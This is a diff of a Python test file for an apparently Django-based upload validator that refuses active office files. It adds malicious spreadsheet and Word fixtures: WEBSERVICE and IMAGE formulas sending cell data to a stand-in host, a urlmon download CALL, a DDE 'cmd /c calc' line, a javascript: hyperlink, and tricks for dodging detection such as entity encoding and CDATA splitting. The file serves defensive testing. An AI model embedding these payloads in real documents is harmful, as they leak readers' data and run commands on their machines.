@@ -10,12 +10,22 @@ from django.core.files.base import ContentFile
 from library import files
 
 from .. import factories
-from .office_files import build_docx, build_odt, build_relationships, build_xlsx, build_zip, declare
+from .office_files import (
+    OFFICE,
+    WORD,
+    build_docx,
+    build_odt,
+    build_relationships,
+    build_xlsx,
+    build_zip,
+    declare,
+)
 
 MACROS = "W tym pliku są makra"
 PROGRAM = "jest program"
 FILES_INSIDE = "schowane inne pliki"
 EXTERNAL = "z innego komputera"
+FORMULA = "formuła, która u czytelnika pobiera"
 APPENDED = "ma coś dopisane"
 INVALID = "To nie jest prawidłowy plik"
 
@@ -52,6 +62,15 @@ def instruction(text):
 def field(*instructions):
     body = "".join(map(instruction, instructions))
     return build_docx(f"<w:p>{BEGIN}{body}{SEPARATE}<w:r><w:t>tekst</w:t></w:r>{END}</w:p>")
+
+
+def formula(text):
+    return build_xlsx(f'<row r="1"><c r="A1"><f>{text}</f><v>1</v></c></row>')
+
+
+def workbook(content):
+    """Return an XLSX file with this content of the main part."""
+    return build_xlsx(parts={"xl/workbook.xml": f"<workbook>{content}</workbook>"})
 
 
 def chart(workbook, source="word/charts/chart1.xml"):
@@ -168,6 +187,59 @@ REFUSED = {
         ),
         EXTERNAL,
     ),
+    "workbook of a server": (
+        "xlsx",
+        build_xlsx(relationships=[("externalLink", "https://zly.example/a.xlsx", "External")]),
+        EXTERNAL,
+    ),
+    # Formulas
+    **{
+        f"formula {text}": ("xlsx", formula(text), FORMULA)
+        for text in (
+            '_xlfn.WEBSERVICE("https://zly.example/?"&amp;A1)',
+            'IF(A1,_xlfn.IMAGE ( "https://zly.example/a.png"),"")',
+            "webservice(A1)",
+            "WEB<![CDATA[SERVICE]]>(A1)",
+            "&#87;EBSERVICE(A1)",
+            "_xlfn.STOCKHISTORY(A1,1)",
+            '"a""b"&amp;_xlfn.IMAGE(A1)',
+        )
+    },
+    **{
+        f"formula {text}": ("xlsx", formula(text), PROGRAM)
+        for text in (
+            'CALL("urlmon","URLDownloadToFileA","JJCCJJ")',
+            'RTD("zly.server",,"x")',
+            "_xlfn._xlws.PY(0,1)",
+            'DDE("cmd";"/c calc";"x")',
+            'HYPERLINK("javascript:alert(1)","x")',
+        )
+    },
+    "formula in a defined name": (
+        "xlsx",
+        workbook(
+            '<definedNames><definedName name="a">_xlfn.WEBSERVICE(Arkusz1!A1)</definedName></definedNames>'
+        ),
+        FORMULA,
+    ),
+    "formula in a table": (
+        "xlsx",
+        build_xlsx(
+            parts={
+                "xl/tables/t.xml": "<table><calculatedColumnFormula>IMAGE(A1)</calculatedColumnFormula></table>"
+            }
+        ),
+        FORMULA,
+    ),
+    "formula of the data of a chart": ("docx", chart(formula("_xlfn.WEBSERVICE(A1)")), FORMULA),
+    "formula of a spreadsheet in ODT": (
+        "odt",
+        build_odt(
+            '<text:p><draw:object xlink:href="./Object 1"/></text:p>',
+            parts={"Object 1/content.xml": declare('<text:x text:formula="of:=WEBSERVICE([.A1])"/>')},
+        ),
+        FORMULA,
+    ),
     "ODT picture of a server": (
         "odt",
         build_odt('<text:p><draw:image xlink:href="http://zly.example/a.png"/></text:p>'),
@@ -185,7 +257,11 @@ REFUSED = {
     ),
     "addresses of a mail merge": (
         "docx",
-        build_docx(parts={"word/settings.xml": '<w:settings><w:connectString w:val="DSN=a"/></w:settings>'}),
+        build_docx(
+            parts={
+                "word/settings.xml": f'<w:settings xmlns:w="{WORD}"><w:connectString w:val="DSN=a"/></w:settings>'
+            }
+        ),
         EXTERNAL,
     ),
     # Embedded files
@@ -400,7 +476,62 @@ def test_active_office_file_is_refused(extension, content, message):
         validate(content, extension)
 
 
+FOREIGN = 'xmlns:x="urn:x" xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006"'
+DDE_ENDS = {
+    "attribute": '<w:fldChar x:fldCharType="separate"/>',
+    "element": '<x:fldChar w:fldCharType="separate"/>',
+    "parent": '<x:p><w:fldChar w:fldCharType="separate"/></x:p>',
+    "choice": '<mc:AlternateContent><mc:Choice Requires="x"><w:fldChar w:fldCharType="separate"/></mc:Choice>'
+    "</mc:AlternateContent>",
+}
+
+
+@pytest.mark.parametrize("decoy", DDE_ENDS.values(), ids=DDE_ENDS.keys())
+def test_mark_that_word_ignores_ends_no_field(decoy):
+    body = f"<w:p {FOREIGN}>{BEGIN}{instruction('DD')}<w:r>{decoy}</w:r>{instruction('E cmd')}{END}</w:p>"
+    with pytest.raises(ValidationError, match=PROGRAM):
+        validate(build_docx(body), "docx")
+
+
+def test_field_that_begins_in_a_branch_is_refused():
+    choice = f'<mc:AlternateContent><mc:Choice Requires="x">{BEGIN}</mc:Choice></mc:AlternateContent>'
+    body = f"<w:p {FOREIGN}>{choice}{instruction('PAGE')}{END}</w:p>"
+    with pytest.raises(ValidationError, match=PROGRAM):
+        validate(build_docx(body), "docx")
+
+
+@pytest.mark.parametrize("attribute", ['x:TargetMode="External"', 'x:Type="hyperlink"'])
+def test_attribute_in_foreign_namespace_is_ignored(attribute):
+    relationships = build_relationships(("afChunk", "strona.html"))
+    decoy = relationships.replace("/>", f' xmlns:x="urn:x" {attribute}/>')
+    if "Type=" in attribute:
+        decoy = decoy.replace(f'Type="{OFFICE}/afChunk" ', "", 1)
+    content = build_docx(parts={"word/_rels/document.xml.rels": decoy})
+    if "Type=" in attribute:
+        validate(content, "docx")  # Word, too, knows no type
+    else:
+        with pytest.raises(ValidationError, match=FILES_INSIDE):
+            validate(content, "docx")
+
+
+def test_formula_around_another_element_is_read_whole():
+    for inside in ("<x/>", "<f/>", "<x>1</x>"):
+        content = build_xlsx(f"<row><c><f>WEB{inside}SERVICE(A1)</f></c></row>")
+        with pytest.raises(ValidationError, match=FORMULA):
+            validate(content, "xlsx")
+
+
 TAKEN = {
+    "field in the text of a shape": (
+        "docx",
+        build_docx(
+            f'<w:p {FOREIGN} xmlns:wps="http://schemas.microsoft.com/office/word/2010/wordprocessingShape"><w:r>'
+            '<mc:AlternateContent><mc:Choice Requires="wps"><wps:txbx><w:txbxContent><w:p>'
+            f"{BEGIN}{instruction('PAGE')}{SEPARATE}{END}</w:p></w:txbxContent></wps:txbx></mc:Choice>"
+            f"<mc:Fallback><v:textbox><w:txbxContent><w:p>{BEGIN}{instruction('PAGE')}{SEPARATE}{END}</w:p>"
+            "</w:txbxContent></v:textbox></mc:Fallback></mc:AlternateContent></w:r></w:p>"
+        ),
+    ),
     "link": ("docx", build_docx(relationships=[("hyperlink", "https://rumia.eu/", "External")])),
     "link to a letter": ("docx", build_docx(relationships=[("hyperlink", "mailto:a@rumia.eu", "External")])),
     "template by its name": ("docx", refers("attachedTemplate", "Normal.dotm")),
@@ -425,6 +556,22 @@ TAKEN = {
                 )
             }
         ),
+    ),
+    **{
+        f"formula {text}": ("xlsx", formula(text))
+        for text in (
+            "SUM(A1:A9)/2",
+            '"Funkcja WEBSERVICE(adres)"',
+            "'CALL (2026)'!A1+'IMAGE (1)'!B2",
+            'HYPERLINK("https://rumia.eu/","Rumia")',
+            "MYIMAGE(A1)+RECALL(2)",
+            "IMAGES+Call*2",
+            'COPY("x")',
+        )
+    },
+    "text that looks like a formula": (
+        "xlsx",
+        build_xlsx('<row><c t="inlineStr"><is><t>=WEBSERVICE(A1)</t></is></c></row>'),
     ),
     "fields": ("docx", field(" PAGEREF _Toc1 \\h ", " ")),
     "fields in a table of contents": (
